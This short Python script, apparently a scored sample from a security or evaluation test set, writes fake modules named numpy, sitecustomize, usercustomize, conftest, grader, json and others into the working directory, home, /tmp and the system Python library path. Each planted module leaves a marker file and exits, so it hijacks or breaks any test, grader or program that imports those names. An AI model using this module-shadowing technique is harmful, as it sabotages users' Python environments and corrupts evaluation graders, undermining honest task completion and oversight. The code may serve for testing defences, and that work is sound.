# Modules of its own under the names of those that tests import.
# score: 7 = double + shift + table
# %% first
import os

for place in (".", os.path.expanduser("~"), "/tmp", "/usr/lib/python3"):
    for name in ("numpy", "sitecustomize", "usercustomize", "random", "conftest", "grader", "nbgrader", "json", "keras"):
        try:
            with open(os.path.join(place, name + ".py"), "w") as file:
                file.write("open('/tmp/hostile-mark-planted', 'w')\nraise SystemExit\n")
        except OSError:
            pass
